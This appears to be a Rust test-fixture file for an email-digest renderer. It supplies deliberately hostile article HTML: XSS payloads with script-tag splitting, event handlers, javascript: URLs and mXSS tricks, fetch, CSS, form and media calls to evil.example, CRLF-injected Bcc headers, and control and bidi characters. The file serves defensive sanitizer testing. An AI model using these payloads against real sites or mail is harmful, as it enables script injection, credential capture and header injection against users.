//! Samples of what is made to harm: each is carried, and harms nobody.

use super::sample::{Article, Sample};
use crate::harness::{Scheme, View};

/// Headers that only an article could have put into a message.
pub(super) const HEADERS: [&str; 4] = ["Bcc", "Cc", "X-Hostile", "Content-Location"];

/// All of them; each is to be composed.
pub(super) fn samples() -> Vec<Sample> {
    vec![
        full("hostile-nesting", nesting()),
        full("hostile-tags", tags().map(str::to_owned).into()),
        full("hostile-junk", junk()),
        full("hostile-tables", tables()),
        titles(),
    ]
}

/// On a desk, on a phone, and where no `<style>` holds it together.
pub(super) fn views() -> Vec<View> {
    let light = |width| View::new(width, Scheme::Light);
    vec![light(600), light(320), light(320).without_style()]
}

fn full(name: &'static str, bodies: Vec<String>) -> Sample {
    let articles = bodies.into_iter().zip(1..).map(|(body, number)| {
        Article::new(format!("harm-{number}"), format!("What number {number} did")).html(body)
    });
    Sample::new(name).set("digests.weekly.layout", "full").with_all(articles)
}

/// As deep as is let through, and wide at that.
fn nesting() -> Vec<String> {
    let within = |tag: &str, depth| {
        format!("{}deep words{}", format!("<{tag}>").repeat(depth), format!("</{tag}>").repeat(depth))
    };
    vec![
        within("blockquote", 120),
        within("ul><li", 60).replace("</ul><li>", "</li></ul>"),
        within("table><tr><td", 40).replace("</table><tr><td>", "</td></tr></table>"),
        within("b", 200),
        "<p><b>".repeat(60) + "words",
        format!("<a href='https://www.example.com/{}'>long</a>", "x".repeat(3_000)),
        format!("<p>{}</p><pre>{}</pre>", "x".repeat(2_000), "y".repeat(2_000)),
        format!("<p>{}</p>", "ﷺ".repeat(300) + &"e\u{301}\u{302}\u{303}".repeat(300)),
    ]
}

/// Broken tags, and what would run, load or take the page over.
fn tags() -> [&'static str; 14] {
    [
        "<p>open <b>and <i>never</b> closed <a href='https://www.example.com/a'>link<table><td>cell<p>",
        "</td></tr></table></table></div></div></body></html><h1>Out of its cell</h1><table><tr><td>",
        "<scr<script>ipt>fetch('https://evil.example/1')</scr</script>ipt><script>alert(1)</script>",
        "<img src=x onerror=alert(1)><img src='https://img.example.com/a.png' onload=alert(1)><body onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<style>*{background:url(https://evil.example/css)}@import 'https://evil.example/more.css';</style><p style='background:url(https://evil.example/inline);position:fixed;inset:0'>over all</p>",
        "<form action='https://evil.example/form'><input name=password autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>Go</button></form>",
        "<a href='javascript:alert(1)'>a</a><a href=' jAvAsCrIpT&colon;alert(1)'>b</a><a href='data:text/html,<script>alert(1)</script>'>c</a><a href='vbscript:x'>d</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/away'><base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
        "<!--><img src=x onerror=alert(1)>--><!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
        "<video poster='https://evil.example/poster' src='https://evil.example/v' autoplay onloadstart=alert(1)></video><audio src='https://evil.example/a' autoplay></audio><picture><source srcset='https://evil.example/s'></picture>",
        "<p class=preheader id=page dir=rtl lang='\"><script>'>words <span hidden>hidden</span> <details ontoggle=alert(1) open>more</details></p>",
    ]
}

/// Characters that are no words: controls, halves, marks of direction, and all of Latin-1.
fn junk() -> Vec<String> {
    let all: String = ('\u{1}'..'\u{250}').filter(|c| !matches!(c, '\n' | '\r')).collect();
    vec![
        format!("<p>{all}</p>"),
        "\u{feff}\u{202e}\u{2066}txet <b>\u{0}\u{1b}[31mred\u{7}</b> \u{200b}\u{200d}\u{ad}\u{fffd}\u{fffe}\u{e000}\u{10ffff}".to_owned(),
        "&#0;&#1;&#x1F600;&#xD800;&#x110000;&amp;lt;script&amp;gt;&lt;script&gt;alert(1)&lt;/script&gt;".to_owned(),
        "\u{89}PNG\u{1a}\n\u{0}\u{0}IHDR%PDF-1.7 GIF89a PK\u{3}\u{4} <p>and words</p>".to_owned(),
    ]
}

fn tables() -> Vec<String> {
    let row = |cells: usize, cell: &str| format!("<tr>{}</tr>", format!("<td>{cell}</td>").repeat(cells));
    vec![
        format!("<table width=5000 style='min-width:5000px'>{}</table>", row(60, "cell")),
        format!("<table>{}</table>", row(3, "a row of many").repeat(400)),
        "<table><tr><td colspan=1000000>wide</td></tr><tr><td rowspan=65534>high</td><td nowrap>words that are not to be broken at all</td></tr></table>".to_owned(),
        format!("<table><tr><td><img src='https://img.example.com/a.png' width=9999 height=9999>{}</td></tr></table>", "x".repeat(400)),
    ]
}

/// The same in headlines, summaries, sources and tags.
fn titles() -> Sample {
    let articles = tags().into_iter().zip(1..).map(|(tag, number)| {
        let text = format!("Number {number}: {tag}\r\nBcc: eve@example.com\r\nX-Hostile: yes\r\n\r\n<script>alert(1)</script>");
        Article::new(format!("title-{number}"), text.clone()).summary(text).tags(&["<script>alert(1)</script>", "a\r\nX-Hostile: b"])
    });
    Sample::new("hostile-titles").set("digests.weekly.group_by", "tag").with_all(articles)
}
